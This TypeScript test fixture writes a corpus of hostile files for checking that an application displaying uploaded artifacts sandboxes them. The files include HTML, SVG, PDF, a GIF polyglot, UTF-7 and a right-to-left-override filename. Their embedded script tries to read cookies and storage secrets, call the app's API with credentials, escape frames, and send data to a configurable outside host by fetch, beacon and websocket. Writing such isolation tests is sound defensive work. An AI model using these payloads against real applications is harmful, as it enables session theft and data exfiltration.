// Files that try everything a page can try against the application that shows it, written to a folder by the test.
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { gzipSync } from "node:zlib";

/** What an attack got hold of, or how it was refused. */
export type Loot = Record<string, string>;

/**
 * The attack, as the text of a script: reads and writes cookies and storage, reads the API, asks for a refresh in five
 * ways, calls `outside`, leaves its frame, opens windows, registers workers. `#…` names an address to steal from.
 */
function attack(outside: string): string {
  return `(function () {
  "use strict";
  window.__began = true;
  var loot = window.__loot = {};
  function attempt(name, act) {
    var wait;
    try { wait = Promise.resolve(act()); } catch (error) { wait = Promise.reject(error); }
    var late = new Promise(function (_, no) { setTimeout(function () { no({ name: "Late" }); }, 1500); });
    return Promise.race([wait, late]).then(
      function (value) { loot[name] = "got " + String(value).slice(0, 200); },
      function (error) { loot[name] = "refused: " + (error && error.name); });
  }
  function loads(name, url) {
    return new Promise(function (yes, no) {
      var element = document.createElementNS("http://www.w3.org/1999/xhtml", name);
      element.onload = function () { yes(url); };
      element.onerror = function () { no({ name: "NotLoaded" }); };
      element.src = url;
      (document.body || document.documentElement).appendChild(element);
    });
  }
  function text(answer) { return answer.text(); }
  var app = location.protocol + "//" + location.host;
  var stolen = decodeURIComponent(location.hash.slice(1));
  window.__done = Promise.all([
    attempt("cookie", function () { document.cookie = "evil=1; path=/"; return document.cookie || "nothing"; }),
    attempt("storage", function () { localStorage.setItem("evil", "1"); return localStorage.getItem("greenroom.secret") || "nothing"; }),
    attempt("session", function () { sessionStorage.setItem("evil", "1"); return "nothing"; }),
    attempt("database", function () { return indexedDB.open("evil") && new Promise(function (yes, no) { var r = indexedDB.open("evil"); r.onsuccess = function () { yes("opened"); }; r.onerror = function () { no({ name: "NotOpened" }); }; }); }),
    attempt("caches", function () { return caches.open("evil"); }),
    attempt("parent", function () { if (window.parent === window) throw { name: "Alone" }; return window.parent.document.title; }),
    attempt("parentStorage", function () { if (window.parent === window) throw { name: "Alone" }; return window.parent.localStorage.length; }),
    attempt("opener", function () { if (!window.opener) throw { name: "Alone" }; return window.opener.document.title; }),
    attempt("api", function () { return fetch(app + "/api/sync").then(text); }),
    attempt("apiWithCookies", function () { return fetch(app + "/api/runs", { credentials: "include" }).then(text); }),
    attempt("apiBlind", function () { return fetch(app + "/api/runs", { mode: "no-cors" }).then(function (answer) { return answer.type; }); }),
    attempt("apiXhr", function () { return new Promise(function (yes, no) { var x = new XMLHttpRequest(); x.open("GET", app + "/api/workflows"); x.onload = function () { yes(x.responseText); }; x.onerror = function () { no({ name: "NotLoaded" }); }; x.send(); }); }),
    attempt("apiScript", function () { return loads("script", app + "/api/workflows"); }),
    attempt("appScript", function () { return loads("script", app + "/assets/index.js"); }),
    attempt("appFrame", function () { var frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe"); frame.src = app + "/"; (document.body || document.documentElement).appendChild(frame); return new Promise(function (yes) { frame.onload = function () { yes(frame.contentDocument.title); }; }); }),
    attempt("events", function () { return new Promise(function (yes, no) { var s = new EventSource(app + "/api/events"); s.onopen = function () { yes("open"); }; s.onerror = function () { s.close(); no({ name: "NotOpened" }); }; }); }),
    attempt("post", function () { return fetch(app + "/api/refresh", { method: "POST" }).then(text); }),
    attempt("postBlind", function () { return fetch(app + "/api/refresh", { method: "POST", mode: "no-cors", body: "x", keepalive: true }).then(function (answer) { return answer.type; }); }),
    attempt("other", function () { if (!stolen) throw { name: "Unknown" }; return fetch(app + stolen).then(text); }),
    attempt("otherImage", function () { if (!stolen) throw { name: "Unknown" }; return loads("img", app + stolen); }),
    attempt("otherFrame", function () { if (!stolen) throw { name: "Unknown" }; var frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe"); frame.src = app + stolen; (document.body || document.documentElement).appendChild(frame); return new Promise(function (yes) { frame.onload = function () { yes(frame.contentDocument.body.textContent); }; }); }),
    attempt("outside", function () { return fetch("${outside}/fetch", { mode: "no-cors" }).then(function (answer) { return answer.type; }); }),
    attempt("outsideImage", function () { return loads("img", "${outside}/image.png"); }),
    attempt("outsideScript", function () { return loads("script", "${outside}/script.js"); }),
    attempt("outsideSocket", function () { return new Promise(function (yes, no) { var s = new WebSocket("${outside}/socket".replace("http", "ws")); s.onopen = function () { yes("open"); }; s.onerror = function () { no({ name: "NotOpened" }); }; }); }),
    attempt("worker", function () { return navigator.serviceWorker.register("sw.js"); }),
    attempt("sharedWorker", function () { return new Promise(function (yes, no) { var w = new SharedWorker("sw.js"); w.onerror = function () { no({ name: "NotStarted" }); }; w.port.onmessage = function () { yes("started"); }; }); }),
    attempt("clipboard", function () { return navigator.clipboard.readText(); }),
    attempt("position", function () { return new Promise(function (yes, no) { navigator.geolocation.getCurrentPosition(yes, no); }); })
  ]).then(function () {
    try { navigator.sendBeacon(app + "/api/refresh", "x"); } catch (error) { loot.beacon = "refused: " + error.name; }
    try { navigator.sendBeacon("${outside}/beacon", "x"); } catch (error) { loot.outsideBeacon = "refused: " + error.name; }
    try { window.top.location.href = "${outside}/top"; if (window.top === window) loot.top = "itself"; } catch (error) { loot.top = "refused: " + error.name; }
    return loot;
  });
})();`;
}

/** The same, without what takes the page itself elsewhere: for pages opened as a tab of their own. */
function staying(script: string): string {
  return script.replace("window.top.location.href = ", "if (window.top !== window) window.top.location.href = ");
}

/** What is in the shelf: a folder "evil" with the corpus, "other" with a page that is none of its business. */
export function writeEvil(shelf: string, outside: string): string[] {
  const script = staying(attack(outside));
  const page = (body: string, head = "") =>
    `<!doctype html><html><head><meta charset="utf-8"><title>evil</title>${head}</head><body>${body}</body></html>`;
  const tag = `<script>${script}</script>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.__began=true"><script><![CDATA[${script}]]></script><rect width="40" height="40"/><image href="${outside}/svg.png"/><foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${outside}/svg.html"></iframe></foreignObject></svg>`;
  const form = `<form id="f" method="post" action="/api/refresh"><input name="x" value="1"></form>`;
  const files: Record<string, string | Buffer> = {
    "page.html": page(tag),
    "drawing.svg": svg,
    "drawing.svgz": gzipSync(svg),
    "paper.pdf": pdf(outside),
    "page.xhtml": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>evil</title></head><body><script><![CDATA[${script}]]></script></body></html>`,
    "page.xml": `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><evil/>`,
    "style.xsl": `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${script.replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</script></body></html></xsl:template></xsl:stylesheet>`,
    "picture.png": page(tag),
    "picture.gif": Buffer.from(`GIF89a=1;/*\u0000\u0000*/${script}`, "latin1"),
    "utf7.html": `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-7"></head><body>+ADw-script+AD4-${script}+ADw-/script+AD4-</body></html>`,
    "utf16.html": Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page(tag), "utf16le")]),
    "refresh.html": page("gone", `<meta http-equiv="refresh" content="0;url=${outside}/refresh">`),
    "base.html": page(`<img src="base.png"><script src="base.js"></script>${tag}`, `<base href="${outside}/">`),
    "form.html": page(`${form}${tag}<script>document.getElementById("f").submit()</script>`),
    "button.html": page(
      `<form method="post" action="${outside}/form"><button id="b" formtarget="_top">x</button></form>${tag}<script>document.getElementById("b").click()</script>`,
    ),
    "worker.html": page(
      `${tag}<script>try{new Worker(URL.createObjectURL(new Blob(["fetch('${outside}/worker');fetch(location.origin+'/api/runs')"])))}catch(e){}</script>`,
    ),
    "sw.js": `self.onfetch = function (event) { event.respondWith(new Response("owned")); }; self.onconnect = function (event) { event.ports[0].postMessage("started"); };`,
    "flood.html": page(
      `${tag}<script>for (var i = 0; i < 5000; i++) { var m = { type: "navigate", to: "${outside}/flood", event: "sync", i: i }; parent.postMessage(m, "*"); top.postMessage(JSON.stringify(m), "*"); if (opener) opener.postMessage(m, "*"); }</script>`,
    ),
    "big.html": page(`<script>var filler = "${"x".repeat(10 << 20)}";</script>${tag}`),
    "popup.html": page(
      `${tag}<script>try { var w = window.open("/"); window.__loot.popup = w ? "got " + (function () { try { return w.document.title; } catch (e) { return "nothing"; } })() : "refused: no window"; } catch (e) { window.__loot.popup = "refused: " + e.name; } window.open("${outside}/popup");</script>`,
    ),
    "nested.html": page(
      `${tag}<iframe srcdoc="${tag.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}"></iframe><iframe src="javascript:parent.parent.document.title"></iframe>`,
    ),
    nameless: page(tag),
    "notes.txt": page(tag),
    "data.json": `{"html":"${tag.replaceAll("\\", "\\\\").replaceAll('"', '\\"').replaceAll("\n", "\\n")}"}`,
    "readme.md": `# Evil\n\n${tag}\n\n<img src=x onerror="window.__began=true">\n\n![pixel](${outside}/markdown.png)\n\n[click](javascript:window.__began=true)\n`,
    "\u202egnp.exe": page(tag),
  };
  write(join(shelf, "evil"), files);
  write(join(shelf, "other"), { "secret.html": page("the secret of another artifact"), "secret.png": pixel() });
  return Object.keys(files);
}

function write(folder: string, files: Record<string, string | Buffer>): void {
  for (const [name, content] of Object.entries(files)) {
    const path = join(folder, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, content);
  }
}

function pixel(): Buffer {
  return Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "base64",
  );
}

function pdf(outside: string): string {
  return `%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${outside}/pdf"\\);) >> >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /URI /URI (${outside}/pdf-open) >> >> >> endobj
trailer << /Root 1 0 R >>
%%EOF
`;
}
